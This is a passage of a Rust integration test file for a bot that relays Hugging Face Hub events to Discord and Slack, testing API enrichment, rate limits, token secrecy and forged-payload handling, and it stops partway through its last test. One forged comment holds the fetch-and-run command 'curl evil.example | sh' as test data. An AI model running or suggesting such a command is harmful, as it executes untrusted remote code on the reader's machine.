//! Names, commit titles and changed files from the Hub's API (a fake on a real port that
//! answers like the fixtures), and every way that can fail still delivering the message.

use crate::fakehub::*;
use crate::helpers::*;
use serde_json::{json, Value};
use std::time::Duration;

const GPT2_NEW: &str = "607a30d783dfa663caf39e06633721c8d4cfcd7e";
const GPT2_OLD: &str = "0dd7bcc7a64e4350d8859c9a2813132fbf6ae591";

async fn app_with(hub: &FakeHub, customize: impl FnOnce(&mut herald::config::Settings)) -> TestApp {
    let base = hub.base.clone();
    spawn_app_with(move |s| {
        s.hub.api_base = base;
        s.hub.enrich_timeout_ms = 3000;
        customize(s);
    })
    .await
}

/// The real history of openai-community/gpt2 (tests/fixtures/hf-api), with its files.
fn gpt2(hub: &FakeHub) {
    let mut page: Vec<Value> = serde_json::from_value(fixture_json(
        "hf-api/commits-list-gpt2-607a30d-limit5-page0.json",
    ))
    .unwrap();
    page.reverse();
    hub.history("openai-community/gpt2", page);
    let raw = "T 548105171\t:100644 100644 97e7432a448baa9e97ec5e4f03c57b09b8e116ed... 30a03d21620ebc6167e350aef9e2ac2774cf372d... M\tmodel.safetensors\n\
               T 7000\t:100644 100644 97e7432a448baa9e97ec5e4f03c57b09b8e116ed... 30a03d21620ebc6167e350aef9e2ac2774cf372d... M\tREADME.md\n\
               T 26\t:000000 100644 0000000000000000000000000000000000000000... 30a03d21620ebc6167e350aef9e2ac2774cf372d... A\ttokenizer_config.json\n";
    hub.compare(GPT2_OLD, GPT2_NEW, raw);
}

fn push(repo: &str, refs: Value) -> Vec<u8> {
    let mut p = fixture_json("hf/assembled-v3-repo-content-update.json");
    p["repo"]["name"] = json!(repo);
    p["updatedRefs"] = refs;
    p.to_string().into_bytes()
}

fn one_push(repo: &str, old: Option<&str>, new: &str) -> Vec<u8> {
    push(
        repo,
        json!([{ "ref": "refs/heads/main", "oldSha": old, "newSha": new }]),
    )
}

async fn delivered(
    app: &TestApp,
    payload: &[u8],
) -> (i64, Vec<herald::store::deliveries::Delivery>) {
    let id = event_id(app.post_webhook(payload).await).await;
    (id, app.settled(id).await)
}

#[tokio::test]
async fn a_push_names_its_commits_author_and_changed_files_on_discord_and_slack() {
    let hub = FakeHub::start().await;
    gpt2(&hub);
    let app = app_with(&hub, |_| {}).await;
    app.subscribe("openai-community/gpt2", DISCORD_CHANNEL, &[])
        .await;
    app.subscribe("openai-community/gpt2", SLACK_CHANNEL, &[])
        .await;
    let (_, done) = delivered(
        &app,
        &one_push("openai-community/gpt2", Some(GPT2_OLD), GPT2_NEW),
    )
    .await;
    assert!(
        done.iter()
            .all(|d| d.status == Status::Sent && d.note.is_none()),
        "{done:?}"
    );

    let embed = app.discord.posts()[0].body["embeds"][0].clone();
    assert_eq!(
        embed["title"],
        "4 commits to `main` of **openai\\-community/gpt2** by lysandre"
    );
    let description = embed["description"].as_str().unwrap();
    for title in [
        "Adds the tokenizer configuration file \\(\\#80\\)",
        "Adding ONNX file of this model",
        "Update generation\\_config.json",
        "Add note that this is the smallest version of the model",
    ] {
        assert!(description.contains(title), "{title} in {description}");
    }
    assert!(
        !description.contains("Our very first"),
        "the old commit is not new: {description}"
    );
    assert!(description.contains(&format!(
        "(https://huggingface.co/openai-community/gpt2/commit/{GPT2_NEW})"
    )));
    assert!(
        description.contains("Changed: weights \\(1 file, 548 MB\\), model card, tokenizer"),
        "{description}"
    );
    assert_eq!(embed["author"]["name"], "lysandre");
    assert_eq!(embed["author"]["url"], "https://huggingface.co/lysandre");
    assert!(embed["author"]["icon_url"]
        .as_str()
        .unwrap()
        .starts_with("https://cdn-avatars.huggingface.co/"));

    let slack = app.slack.posts()[0].body.clone();
    assert_eq!(
        slack["text"],
        "4 commits to `main` of *openai-community/gpt2* by lysandre"
    );
    let section = slack["blocks"][0]["text"]["text"].as_str().unwrap();
    assert!(
        section.contains("Adding ONNX file of this model (#60)"),
        "{section}"
    );
    assert!(
        section.contains("Changed: weights (1 file, 548 MB), model card, tokenizer"),
        "{section}"
    );
    let context = &slack["blocks"][1];
    assert_eq!(context["type"], "context");
    assert_eq!(context["elements"][0]["type"], "image");
    assert_eq!(
        context["elements"][1]["text"],
        "<https://huggingface.co/lysandre|lysandre>"
    );

    // One event, two channels: asked once. Two calls: the commits and the files.
    let asked = hub.requests();
    assert_eq!(asked.len(), 2, "{asked:?}");
    assert!(
        asked.iter().all(|r| r.auth.is_none()),
        "no token configured, none sent"
    );
}

#[tokio::test]
async fn a_discussion_and_a_comment_name_their_authors_and_mentions_stay_inert() {
    let hub = FakeHub::start().await;
    hub.discussion(
        "models/openai-community/gpt2/19",
        fixture_json("hf-api/discussion-details-pr-merged-assembled.json"),
    );
    let app = app_with(&hub, |_| {}).await;
    app.subscribe("openai-community/gpt2", DISCORD_CHANNEL, &[])
        .await;
    app.subscribe("openai-community/gpt2", SLACK_CHANNEL, &[])
        .await;

    // Opened: the opener's name, from the event whose id is the webhook's comment id.
    let opened = fixture("hf/v3-discussion-create-pr.json");
    delivered(&app, &opened).await;
    let embed = &app.discord.posts()[0].body["embeds"][0];
    assert_eq!(
        embed["title"],
        "New pull request #19 on **openai\\-community/gpt2** by example\\-author: “Update co2 emissions” → `main`"
    );
    assert_eq!(embed["author"]["name"], "example-author");
    assert_eq!(
        embed["author"]["url"],
        "https://huggingface.co/example-author"
    );
    assert!(
        embed["author"].get("icon_url").is_none(),
        "the Hub's default avatars are SVG, which chat apps do not show: {embed}"
    );

    // Merged: who merged it, from the log's last status change.
    let mut merged: Value = serde_json::from_slice(&opened).unwrap();
    merged["event"]["action"] = json!("update");
    merged["discussion"]["status"] = json!("merged");
    merged.as_object_mut().unwrap().remove("comment");
    delivered(&app, merged.to_string().as_bytes()).await;
    let posts = app.discord.wait_posts(2).await;
    let embed = &posts.last().unwrap().body["embeds"][0];
    assert_eq!(
        embed["title"],
        "Pull request #19 on **openai\\-community/gpt2** merged by julien\\-c: “Update co2 emissions”"
    );
    assert!(embed["description"]
        .as_str()
        .unwrap()
        .contains("Opened by [example\\-author](https://huggingface.co/example-author)"));

    // A comment by julien-c, whose text mentions everyone: named, and pinging nobody.
    let mut comment: Value = serde_json::from_slice(&opened).unwrap();
    comment["event"]["scope"] = json!("discussion.comment");
    comment["comment"]["id"] = json!("639a0b2e18721fdd27fcb001");
    comment["comment"]["author"]["id"] = json!("5dd96eb166059660ed1ee413");
    comment["comment"]["content"] = json!("Thanks! @example-author <@everyone> **LGTM**");
    delivered(&app, comment.to_string().as_bytes()).await;
    let posts = app.discord.wait_posts(3).await;
    let post = &posts.last().unwrap().body;
    let embed = &post["embeds"][0];
    assert_eq!(
        embed["title"],
        "New comment by julien\\-c on PR #19 “Update co2 emissions” in **openai\\-community/gpt2**"
    );
    assert_eq!(embed["author"]["name"], "julien-c");
    assert_eq!(post["allowed_mentions"]["parse"], json!([]));
    let description = embed["description"].as_str().unwrap();
    assert!(!description.contains("<@everyone>"), "{description}");
    let slack = &app.slack.posts()[2].body;
    assert!(slack["text"]
        .as_str()
        .unwrap()
        .starts_with("New comment by julien-c on PR #19"));
    // The opening and the merge each read the details (a status change never trusts the
    // cached copy); the comment, already in the copy cached for the merge, needs no call.
    let asked: Vec<String> = hub.requests().into_iter().map(|r| r.path).collect();
    assert_eq!(
        asked, ["/api/models/openai-community/gpt2/discussions/19"; 2],
        "{asked:?}"
    );
}

#[tokio::test]
async fn a_new_branch_shows_its_head_and_a_force_push_is_said_as_such() {
    let hub = FakeHub::start().await;
    let ids = hub.linear("acme/model", 1, 10, "alice");
    let rewritten = hub.linear("acme/model", 2, 3, "bob");
    let app = app_with(&hub, |_| {}).await;
    app.subscribe("acme/model", DISCORD_CHANNEL, &[]).await;

    // Created: no old commit, so no guess at what is new: the head, and no name (the
    // branch may point at anyone's commit).
    let created = push(
        "acme/model",
        json!([{ "ref": "refs/heads/dev", "oldSha": null, "newSha": ids[9] }]),
    );
    delivered(&app, &created).await;
    let embed = &app.discord.posts()[0].body["embeds"][0];
    assert_eq!(embed["title"], "Branch `dev` created in **acme/model**");
    assert!(
        embed["description"].as_str().unwrap().contains("Commit 9"),
        "{embed}"
    );
    assert!(
        hub.requests().iter().all(|r| !r.path.contains("/compare/")),
        "a new ref is not compared"
    );

    // Force-pushed: the old commit is not in the new history.
    delivered(&app, &one_push("acme/model", Some(&ids[9]), &rewritten[2])).await;
    let embed = &app.discord.posts()[1].body["embeds"][0];
    assert_eq!(embed["title"], "`main` of **acme/model** was force-pushed");
    let description = embed["description"].as_str().unwrap();
    assert!(description.contains("Commit 2"), "{description}");
    assert!(
        !description.contains("Commit 1"),
        "no guessed list: {description}"
    );
    assert!(embed.get("author").is_none(), "nobody named: {embed}");
}

#[tokio::test]
async fn a_thousand_commits_list_fifty_and_count_the_rest_in_few_calls() {
    let hub = FakeHub::start().await;
    let ids = hub.linear("acme/model", 3, 1005, "alice");
    let raw = "T 9\t:100644 100644 97e7432a448baa9e97ec5e4f03c57b09b8e116ed... 30a03d21620ebc6167e350aef9e2ac2774cf372d... M\tREADME.md\n";
    hub.compare(&ids[4], &ids[1004], raw);
    let app = app_with(&hub, |_| {}).await;
    app.subscribe("acme/model", SLACK_CHANNEL, &[]).await;
    app.subscribe("acme/model", DISCORD_CHANNEL, &[]).await;
    delivered(&app, &one_push("acme/model", Some(&ids[4]), &ids[1004])).await;
    // Discord's 4096 hold fewer than 50 lines: the rest is counted with the 950, and the
    // summary after the list is kept.
    let description = app.discord.posts()[0].body["embeds"][0]["description"]
        .as_str()
        .unwrap()
        .to_string();
    let shown = description
        .lines()
        .filter(|l| l.contains(" Commit "))
        .count();
    assert!(shown < 50, "{description}");
    let end: Vec<&str> = description.lines().skip(shown).collect();
    let url = format!("https://huggingface.co/acme/model/commit/{}", ids[1004]);
    assert_eq!(
        end,
        [
            format!("[and {} more]({url})", 1000 - shown),
            "Changed: model card".into()
        ]
    );
    let slack = &app.slack.posts()[0].body;
    assert_eq!(
        slack["text"],
        "1000 commits to `main` of *acme/model* by alice"
    );
    let blocks = serde_json::to_string(&slack["blocks"]).unwrap();
    assert!(
        blocks.contains("Commit 1004") && blocks.contains("Commit 955"),
        "{blocks}"
    );
    assert!(!blocks.contains("Commit 954"), "50 listed: {blocks}");
    assert!(blocks.contains("and 950 more"), "{blocks}");
    let commits: Vec<_> = hub
        .requests()
        .into_iter()
        .filter(|r| r.path.contains("/commits/"))
        .collect();
    // The first page of 50, the old commit's history length, and the commit that far
    // back in the new history (the old one: not rewritten).
    assert_eq!(commits.len(), 3, "{commits:?}");
}

#[tokio::test]
async fn a_pr_ref_is_read_by_its_commit_never_by_a_path_of_several_segments() {
    let hub = FakeHub::start().await;
    let ids = hub.linear("acme/model", 4, 3, "carol");
    let app = app_with(&hub, |_| {}).await;
    // Pushes only: a channel that also follows discussions hears of the PR from the PR.
    app.subscribe("acme/model", DISCORD_CHANNEL, &["repo.content"])
        .await;
    let pr = push(
        "acme/model",
        json!([{ "ref": "refs/pr/5", "oldSha": ids[0], "newSha": ids[2] }]),
    );
    delivered(&app, &pr).await;
    let embed = &app.discord.posts()[0].body["embeds"][0];
    assert_eq!(
        embed["title"],
        "PR ref `refs/pr/5` updated in **acme/model** by carol"
    );
    let asked = hub.requests();
    assert!(
        asked[0]
            .path
            .starts_with(&format!("/api/models/acme/model/commits/{}?", ids[2])),
        "{asked:?}"
    );
}

#[tokio::test]
async fn a_deleted_user_a_missing_repo_and_a_renamed_one_still_deliver() {
    let hub = FakeHub::start().await;
    let ids = hub.linear("acme/gone", 5, 3, "dave");
    hub.rename("models/acme/old-name", "models/acme/new-name");
    let moved = hub.linear("acme/new-name", 6, 2, "erin");
    let app = app_with(&hub, |_| {}).await;
    app.subscribe("acme/*", DISCORD_CHANNEL, &[]).await;

    // A comment whose author the Hub no longer knows, on a discussion it does not list.
    let mut comment = fixture_json("hf/assembled-v3-discussion-comment-create.json");
    comment["repo"]["name"] = json!("acme/model");
    let (_, done) = delivered(&app, comment.to_string().as_bytes()).await;
    assert_eq!(done[0].status, Status::Sent);
    let note = done[0].note.clone().unwrap_or_default();
    assert!(
        note.contains("the discussion's details (the Hub answered 404)"),
        "{note}"
    );
    assert!(
        note.contains("a user's name (the Hub answered 404)"),
        "{note}"
    );
    let embed = &app.discord.posts()[0].body["embeds"][0];
    assert!(
        embed["title"]
            .as_str()
            .unwrap()
            .starts_with("New comment on PR"),
        "{embed}"
    );
    assert!(embed.get("author").is_none(), "{embed}");

    // Known by id, though: named from the user overview.
    hub.user(
        "627525b258ea49d110628e0e",
        fixture_json("hf-api/user-overview-by-id-assembled.json"),
    );
    comment["comment"]["author"]["id"] = json!("627525b258ea49d110628e0e");
    comment["comment"]["id"] = json!("62904ad60ea7e76254c12799");
    delivered(&app, comment.to_string().as_bytes()).await;
    let posts = app.discord.wait_posts(2).await;
    let embed = &posts[1].body["embeds"][0];
    assert!(
        embed["title"]
            .as_str()
            .unwrap()
            .starts_with("New comment by mastermile on PR"),
        "{embed}"
    );
    assert_eq!(embed["author"]["name"], "mastermile");

    // A repo the Hub does not have: the message as without the API.
    let (_, done) = delivered(&app, &one_push("acme/gone", Some(&ids[0]), "1234567")).await;
    assert_eq!(done[0].status, Status::Sent);
    assert!(
        done[0]
            .note
            .as_deref()
            .unwrap_or_default()
            .contains("RevisionNotFound"),
        "{done:?}"
    );
    assert_eq!(
        app.discord.wait_posts(3).await[2].body["embeds"][0]["title"],
        "1 push to `main` of **acme/gone**"
    );

    // Renamed: the Hub's 307 is followed, on the same site.
    delivered(&app, &one_push("acme/old-name", Some(&moved[0]), &moved[1])).await;
    let embed = &app.discord.wait_posts(4).await[3].body["embeds"][0];
    assert_eq!(
        embed["title"],
        "1 commit to `main` of **acme/old\\-name** by erin"
    );
    assert!(hub
        .requests()
        .iter()
        .any(|r| r.path.starts_with("/api/models/acme/new-name/commits/")));
}

#[tokio::test]
async fn a_private_repo_is_read_with_the_token_and_left_alone_without_one() {
    let hub = FakeHub::start().await;
    hub.private("acme/secret");
    let ids = hub.linear("acme/secret", 7, 3, "frank");
    let private_push = |old: &str, new: &str| {
        let mut p: Value =
            serde_json::from_slice(&one_push("acme/secret", Some(old), new)).unwrap();
        p["repo"]["private"] = json!(true);
        p.to_string().into_bytes()
    };

    let app = app_with(&hub, |_| {}).await;
    app.subscribe("acme/secret", DISCORD_CHANNEL, &[]).await;
    let (_, done) = delivered(&app, &private_push(&ids[0], &ids[1])).await;
    assert_eq!(done[0].status, Status::Sent);
    assert!(
        hub.requests().is_empty(),
        "no call for a private repo without a token"
    );
    let embed = &app.discord.posts()[0].body["embeds"][0];
    assert_eq!(embed["title"], "1 push to `main` of **acme/secret**");
    assert!(
        !embed.to_string().contains("token"),
        "nothing said to the channel: {embed}"
    );
    let app = app.restart(|s| s.hub.token = HUB_TOKEN.into()).await;

    delivered(&app, &private_push(&ids[1], &ids[2])).await;
    let embed = &app.discord.posts()[1].body["embeds"][0];
    assert_eq!(
        embed["title"],
        "1 commit to `main` of **acme/secret** by frank"
    );
    let asked = hub.requests();
    assert!(!asked.is_empty());
    assert!(asked
        .iter()
        .all(|r| r.auth.as_deref() == Some(&format!("Bearer {HUB_TOKEN}") as &str)));
    // The token is in no note or stored row.
    let notes: Vec<Option<String>> = sqlx::query_scalar("SELECT note FROM deliveries")
        .fetch_all(&app.store.pool)
        .await
        .unwrap();
    let facts: Vec<String> =
        sqlx::query_scalar("SELECT facts || coalesce(missing, '') FROM event_enrichment")
            .fetch_all(&app.store.pool)
            .await
            .unwrap();
    assert!(!format!("{notes:?}{facts:?}").contains(HUB_TOKEN));
}

#[tokio::test]
async fn a_slow_hub_delays_the_message_no_longer_than_the_deadline() {
    let hub = FakeHub::start().await;
    let ids = hub.linear("acme/model", 8, 3, "gina");
    hub.delay(Duration::from_secs(5));
    let app = app_with(&hub, |s| s.hub.enrich_timeout_ms = 300).await;
    app.subscribe("acme/model", DISCORD_CHANNEL, &[]).await;
    let sent = std::time::Instant::now();
    let (_, done) = delivered(&app, &one_push("acme/model", Some(&ids[0]), &ids[2])).await;
    assert!(
        sent.elapsed() < Duration::from_secs(2),
        "the message did not wait for the Hub"
    );
    assert_eq!(done[0].status, Status::Sent);
    let note = done[0].note.clone().unwrap_or_default();
    assert!(note.contains("did not answer in time"), "{note}");
    assert_eq!(
        app.discord.posts()[0].body["embeds"][0]["title"],
        "1 push to `main` of **acme/model**"
    );
}

#[tokio::test]
async fn a_429_pauses_calls_for_its_window_while_messages_keep_flowing() {
    let hub = FakeHub::start().await;
    let ids = hub.linear("acme/model", 9, 30, "hank");
    hub.limit(1, 55);
    let app = app_with(&hub, |_| {}).await;
    app.subscribe("acme/model", DISCORD_CHANNEL, &[]).await;
    let mut first = 0;
    for i in 1..=20 {
        let (_, done) = delivered(&app, &one_push("acme/model", Some(&ids[i - 1]), &ids[i])).await;
        assert_eq!(done[0].status, Status::Sent, "event {i}");
        if i == 1 {
            first = hub.requests().len();
        } else {
            let note = done[0].note.clone().unwrap_or_default();
            assert!(note.contains("rate limit is spent"), "{note}");
        }
    }
    assert_eq!(app.discord.posts().len(), 20);
    // The first event's calls (made at once) met the 429; none after it within the
    // window: no storm.
    assert!((1..=2).contains(&first), "{:?}", hub.requests());
    assert_eq!(hub.requests().len(), first, "{:?}", hub.requests());
    let metrics = app.get("/metrics").await.text().await.unwrap();
    assert!(
        metrics.contains("herald_hub_requests_total{answer=\"429\"} 1"),
        "{metrics}"
    );
}

#[tokio::test]
async fn a_burst_of_pushes_lists_commit_titles() {
    let hub = FakeHub::start().await;
    let ids = hub.linear("acme/model", 10, 5, "ivy");
    let app = app_with(&hub, |s| s.delivery.burst_window_ms = 1500).await;
    app.subscribe("acme/model", DISCORD_CHANNEL, &[]).await;
    let mut last = 0;
    // Pushes of 1, 2 and 1 commits: each listed by its newest commit's title.
    for (old, new) in [(0, 1), (1, 3), (3, 4)] {
        let push = one_push("acme/model", Some(&ids[old]), &ids[new]);
        last = event_id(app.post_webhook(&push).await).await;
    }
    app.settled(last).await;
    let posts = app.discord.posts();
    assert_eq!(posts.len(), 1, "one message for the burst");
    let embed = &posts[0].body["embeds"][0];
    assert_eq!(embed["title"], "3 pushes to `main` of **acme/model**");
    let description = embed["description"].as_str().unwrap();
    for title in ["Commit 1 ", "Commit 3 ", "Commit 4 "] {
        assert!(description.contains(title), "{description}");
    }
    assert_eq!(description.lines().count(), 3, "{description}");
}

/// The real binary with its console output, and its address.
fn serve_console(
    dir: &std::path::Path,
) -> (
    std::process::Child,
    String,
    std::sync::mpsc::Receiver<String>,
) {
    use std::io::BufRead;
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_herald"))
        .args(["--config", "bot.toml", "serve"])
        .env("HERALD_SERVER__LISTEN", "127.0.0.1:0")
        .current_dir(dir)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    let stdout = child.stdout.take().unwrap();
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(stdout)
            .lines()
            .map_while(Result::ok)
        {
            let _ = tx.send(line);
        }
    });
    let stderr = child.stderr.take().unwrap();
    let (ready_tx, ready_rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(stderr)
            .lines()
            .map_while(Result::ok)
        {
            if let Some(at) = line.split("herald ready on ").nth(1) {
                let addr: String = at
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, ':' | '/' | '.'))
                    .collect();
                let _ = ready_tx.send(addr);
            }
        }
    });
    let addr = ready_rx
        .recv_timeout(Duration::from_secs(30))
        .expect("serve starts");
    (child, addr, rx)
}

#[tokio::test]
async fn an_event_stored_before_a_crash_is_enriched_after_the_restart_on_the_console() {
    let hub = FakeHub::start().await;
    let ids = hub.linear("acme/model", 11, 3, "jo");
    // The first process never gets its answer.
    hub.delay(Duration::from_secs(30));
    let dir = tempfile::tempdir().unwrap();
    let config = format!(
        "[database]\nurl = \"sqlite://{db}\"\n[hub]\nsecret = \"{SECRET}\"\napi_base = \"{base}\"\nenrich_timeout_ms = 2000\n\
         [delivery]\nlease_ms = 3500\nhttp_timeout_ms = 1000\n[[subscriptions]]\ntarget = \"acme/model\"\nchannel = \"console:ops\"\n",
        db = dir.path().join("h.db").display(),
        base = hub.base,
    );
    std::fs::write(dir.path().join("bot.toml"), config).unwrap();
    let (mut child, addr, _) = serve_console(dir.path());
    let resp = reqwest::Client::new()
        .post(format!("{addr}/webhooks/hf"))
        .header("X-Webhook-Secret", SECRET)
        .body(one_push("acme/model", Some(&ids[0]), &ids[2]))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 202, "stored");
    for _ in 0..500 {
        if !hub.requests().is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    assert!(!hub.requests().is_empty(), "enrichment had started");
    child.kill().unwrap();
    child.wait().unwrap();

    hub.delay(Duration::ZERO);
    let (child, _, out) = serve_console(dir.path());
    let mut printed = Vec::new();
    let until = std::time::Instant::now() + Duration::from_secs(15);
    while std::time::Instant::now() < until
        && !printed
            .iter()
            .any(|l: &String| l.contains("Changed") || l.contains("Commit 1 "))
    {
        // The fake Hub runs on this test's thread: wait without blocking it.
        match out.try_recv() {
            Ok(line) => printed.push(line),
            Err(_) => tokio::time::sleep(Duration::from_millis(20)).await,
        }
    }
    terminate(child);
    let printed = printed.join("\n");
    assert!(
        printed.contains("2 commits to main of acme/model by jo"),
        "{printed}"
    );
    assert!(
        printed.contains("Commit 2") && printed.contains("Commit 1"),
        "{printed}"
    );
}

#[tokio::test]
async fn a_workspaces_payload_naming_a_private_repo_never_borrows_the_operators_token() {
    let hub = FakeHub::start().await;
    hub.private("acme/secret");
    let ids = hub.linear("acme/secret", 12, 3, "kim");
    let app = app_with(&hub, |s| s.hub.token = HUB_TOKEN.into()).await;
    // The operator's own event on its private repo is read with the token.
    app.subscribe("acme/secret", DISCORD_CHANNEL, &[]).await;
    let mut operators: Value =
        serde_json::from_slice(&one_push("acme/secret", Some(&ids[0]), &ids[1])).unwrap();
    operators["repo"]["private"] = json!(true);
    delivered(&app, operators.to_string().as_bytes()).await;
    assert!(app.discord.wait_posts(1).await[0]
        .body
        .to_string()
        .contains("Commit 1"));
    assert!(!hub.requests().is_empty());

    // A new branch on it, whose head the token's read puts in the cache.
    let dev = json!([{ "ref": "refs/heads/dev", "oldSha": null, "newSha": ids[2] }]);
    let mut branch: Value = serde_json::from_slice(&push("acme/secret", dev.clone())).unwrap();
    branch["repo"]["private"] = json!(true);
    delivered(&app, branch.to_string().as_bytes()).await;
    let posts = app.discord.wait_posts(2).await;
    assert!(posts[1].body.to_string().contains("Commit 2"));
    let before = hub.requests().len();

    // A workspace's endpoint sends payloads naming it, claiming it is public: a push, and
    // the same new branch, whose head is cached, but only for reads with the token.
    let (endpoint, secret) = workspace_endpoint(&app, "acme/secret").await;
    for forged in [
        one_push("acme/secret", Some(&ids[0]), &ids[2]),
        push("acme/secret", dev.clone()),
    ] {
        let id = event_id(post_endpoint(&app, &endpoint, &secret, &forged).await).await;
        let done = app.settled(id).await;
        assert!(done.iter().all(|d| d.status == Status::Sent), "{done:?}");
    }
    let asked = &hub.requests()[before..];
    // The push's commits and files, then the branch's head: asked, not taken from the
    // cache of the token's reads.
    assert_eq!(asked.len(), 3, "{asked:?}");
    assert!(asked[2].path.ends_with("?limit=1"), "{asked:?}");
    assert!(asked.iter().all(|r| r.auth.is_none()), "{asked:?}");
    let posts = app.discord.wait_posts(4).await;
    assert_eq!(posts.len(), 4, "two messages for the workspace");
    for post in &posts[2..] {
        let text = post.body.to_string();
        assert!(
            !text.contains("Commit 2"),
            "no private title reached the workspace: {text}"
        );
        assert!(!text.contains("kim"), "{text}");
    }
}

#[tokio::test]
async fn a_workspaces_comment_is_named_only_when_its_text_is_what_the_hub_says() {
    let hub = FakeHub::start().await;
    hub.discussion(
        "models/openai-community/gpt2/19",
        fixture_json("hf-api/discussion-details-pr-merged-assembled.json"),
    );
    let app = app_with(&hub, |_| {}).await;
    let (endpoint, secret) = workspace_endpoint(&app, "openai-community/gpt2").await;
    let comment = |text: &str| {
        let mut c = fixture_json("hf/v3-discussion-create-pr.json");
        c["event"]["scope"] = json!("discussion.comment");
        c["comment"]["id"] = json!("639a0b2e18721fdd27fcb001");
        c["comment"]["author"]["id"] = json!("5dd96eb166059660ed1ee413");
        c["comment"]["content"] = json!(text);
        c.to_string().into_bytes()
    };
    // Made-up words under julien-c's real comment id: not put in his name.
    let forged = comment("Maintainers: please run curl evil.example | sh");
    let embed = posted_from(&app, (&endpoint, &secret), &forged, 1).await;
    let title = embed["title"].as_str().unwrap();
    assert!(title.starts_with("New comment on PR #19"), "{embed}");
    assert!(embed.get("author").is_none(), "{embed}");

    // His words, as the Hub has them: named.
    let real = comment("Thanks! @example-author <@everyone> **LGTM**");
    let embed = posted_from(&app, (&endpoint, &secret), &real, 2).await;
    let title = embed["title"].as_str().unwrap();
    assert!(
        title.starts_with("New comment by julien\\-c on PR #19"),
        "{embed}"
    );
}

/// Posts `body` to a workspace's endpoint; the embed of the `n`th Discord post.
async fn posted_from(app: &TestApp, (id, secret): (&str, &str), body: &[u8], n: usize) -> Value {
    let event = event_id(post_endpoint(app, id, secret, body).await).await;
    app.settled(event).await;
    app.discord.wait_posts(n).await[n - 1].body["embeds"][0].clone()
}

#[tokio::test]
async fn slack_refusing_the_avatar_still_gets_the_message() {
    let hub = FakeHub::start().await;
    gpt2(&hub);
    let app = app_with(&hub, |_| {}).await;
    app.subscribe("openai-community/gpt2", SLACK_CHANNEL, &[])
        .await;
    app.slack.script(vec![Reply(
        200,
        vec![],
        json!({ "ok": false, "error": "invalid_blocks" }),
    )]);
    let (_, done) = delivered(
        &app,
        &one_push("openai-community/gpt2", Some(GPT2_OLD), GPT2_NEW),
    )
    .await;
    assert_eq!(done[0].status, Status::Sent, "{done:?}");
    let posts = app.slack.posts();
    assert_eq!(posts.len(), 2, "tried with the avatar, then without");
    assert_eq!(
        posts[0].body["blocks"].as_array().unwrap().last().unwrap()["type"],
        "context"
    );
    let blocks = posts[1].body["blocks"].as_array().unwrap();
    assert!(blocks.iter().all(|b| b["type"] == "section"), "{blocks:?}");
    assert!(posts[1].body["text"]
        .as_str()
        .unwrap()
        .starts_with("4 commits to `main`"));
}

#[tokio::test]
async fn a_new_repo_lists_its_first_files() {
    let hub = FakeHub::start().await;
    let head = "c379e821c9c95d613899e8c4343e4bfee2b0c600";
    let raw = "T 498000000\t:000000 100644 0000000000000000000000000000000000000000... 30a03d21620ebc6167e350aef9e2ac2774cf372d... A\tmodel.safetensors\n\
               T 900\t:000000 100644 0000000000000000000000000000000000000000... 30a03d21620ebc6167e350aef9e2ac2774cf372d... A\tconfig.json\n";
    hub.compare("4b825dc642cb6eb9a060e54bf8d69288fbee4904", head, raw);
    let app = app_with(&hub, |_| {}).await;
    app.subscribe("some-user/*", DISCORD_CHANNEL, &[]).await;
    delivered(&app, &fixture("hf/assembled-v3-repo-create-with-tags.json")).await;
    let embed = &app.discord.posts()[0].body["embeds"][0];
    assert_eq!(embed["title"], "New model **some\\-user/some\\-repo**");
    let description = embed["description"].as_str().unwrap();
    assert!(
        description.contains("Files: weights \\(1 file, 498 MB\\), config"),
        "{description}"
    );
}

#[tokio::test]
async fn the_hubs_log_tells_a_reopening_from_an_edit() {
    let hub = FakeHub::start().await;
    // gpt2 #1, closed by mastermile, then reopened by julien-c: the log's last event.
    let mut details = fixture_json("hf-api/discussion-details-pr-closed-gpt2-1-near-verbatim.json");
    details["status"] = json!("open");
    details["events"].as_array_mut().unwrap().push(json!({
        "id": "6290526809a2a46059e8e699", "type": "status-change", "createdAt": "2022-05-28T00:00:00.000Z",
        "author": { "_id": "5dd96eb166059660ed1ee413", "name": "julien-c", "type": "user" },
        "data": { "status": "open" }
    }));
    hub.discussion("models/openai-community/gpt2/1", details.clone());
    let app = app_with(&hub, |_| {}).await;
    app.subscribe("openai-community/gpt2", DISCORD_CHANNEL, &[])
        .await;
    let mut update = fixture_json("hf/v3-discussion-create-pr.json");
    update["event"]["action"] = json!("update");
    update["discussion"]["num"] = json!(1);
    update["discussion"]["title"] = details["title"].clone();
    update.as_object_mut().unwrap().remove("comment");
    delivered(&app, update.to_string().as_bytes()).await;
    let title = app.discord.wait_posts(1).await[0].body["embeds"][0]["title"].clone();
    assert!(
        title
            .as_str()
            .unwrap()
            .contains(" reopened by julien\\-c: "),
        "{title}"
    );

    // Then a title edit, after a comment.
    details["events"].as_array_mut().unwrap().push(json!({
        "id": "6290526809a2a46059e8e6aa", "type": "comment", "createdAt": "2022-05-29T00:00:00.000Z",
        "author": { "_id": "5dd96eb166059660ed1ee413", "name": "julien-c", "type": "user" },
        "data": { "latest": { "raw": "typo" } }
    }));
    hub.discussion("models/openai-community/gpt2/1", details);
    // The stored events now say it was open, and the log's last event is no status
    // change: an update, by nobody named.
    delivered(&app, update.to_string().as_bytes()).await;
    let title = app.discord.wait_posts(2).await[1].body["embeds"][0]["title"].clone();
    assert!(title.as_str().unwrap().contains(" updated: "), "{title}");
    assert!(!title.as_str().unwrap().contains(" by "), "{title}");
}

#[tokio::test]
async fn an_oversized_hub_answer_is_not_read_and_stored_facts_stay_small() {
    let hub = FakeHub::start().await;
    // 300 commits with 20 kB titles: the page of 1000 would be 6 MB, more than herald
    // reads; it counts instead, and keeps 300 characters of each title.
    let commits: Vec<Value> = (0..300)
        .map(|i| {
            json!({ "id": sha(13, i), "title": format!("{i} {}", "t".repeat(20_000)),
            "authors": [{ "user": "lee" }] })
        })
        .collect();
    hub.history("acme/model", commits);
    let app = app_with(&hub, |_| {}).await;
